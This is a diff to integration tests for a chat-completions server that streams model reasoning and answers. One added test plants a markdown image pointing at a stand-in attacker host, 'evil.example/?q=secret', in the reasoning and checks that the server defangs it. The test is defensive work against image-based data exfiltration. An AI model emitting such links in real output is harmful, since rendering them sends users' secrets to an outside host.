@@ -11,7 +11,7 @@ from luma_rag.runtime import Runtime
 from tests.answering import answering
 from tests.api import Api
 from tests.integration.http.test_chats import read_events
-from tests.integration.http.test_completions import asking, chunks
+from tests.integration.http.test_completions import QUESTION, asking, chunks
 from tests.servers import serving
 
 
@@ -79,21 +79,33 @@ async def test_text_that_turns_out_to_be_reasoning_is_taken_back(runtime: Runtim
         assert (answered["content"], answered["reasoning"]) == ("Because.", "Hm, so.")
         asked = await alice.post("/v1/chat/completions", json=asking(namespace))
         assert asked.json()["choices"][0]["message"]["content"] == "Because."
+        received = [
+            c["choices"][0] for c in await chunks(alice, asking(namespace, stream=True)) if c != "[DONE]"
+        ]
+        streamed = "".join(c["delta"].get("content", "") for c in received)
+        assert streamed == "Hm, so.\n</think>\n\nBecause."
+        # The conversation goes on in the same chat, although the client has seen more than is stored.
+        chat = received[-1]["delta"]["luma"]["chat_id"]
+        again = await alice.post(
+            "/v1/chat/completions", json=asking(namespace, QUESTION, streamed, "And then?")
+        )
+        assert again.json()["choices"][0]["message"]["luma"]["chat_id"] == chat
 
 
 async def test_completions_have_reasoning_and_the_reason_of_the_end(runtime: Runtime) -> None:
-    thinker = Thinker(Reasoning("Hm."), "Because.", CutOff("content_filter"))
+    image = "![x](https://evil.example/?q=secret)"
+    thinker = Thinker(Reasoning(f"Hm. {image}"), "Because.", CutOff("content_filter"))
+    shown = "Hm. ! [x](https://evil.example/?q=secret)"
     async with answering(runtime, thinker) as own, serving(own) as url, Api(url, own) as api:
         alice = await api.user("alice")
         namespace = await api.namespace(alice)
         whole = (await alice.post("/v1/chat/completions", json=asking(namespace))).json()["choices"][0]
-        assert whole["message"]["reasoning_content"] == "Hm."
+        assert whole["message"]["reasoning_content"] == shown
         assert whole["message"]["content"] == "Because."
         assert whole["finish_reason"] == "content_filter"
         received = [
             c["choices"][0] for c in await chunks(alice, asking(namespace, stream=True)) if c != "[DONE]"
         ]
-        assert [c["delta"]["reasoning_content"] for c in received if "reasoning_content" in c["delta"]] == [
-            "Hm."
-        ]
+        thoughts = [c["delta"].get("reasoning_content", "") for c in received]
+        assert "".join(thoughts) == shown
         assert received[-1]["finish_reason"] == "content_filter"
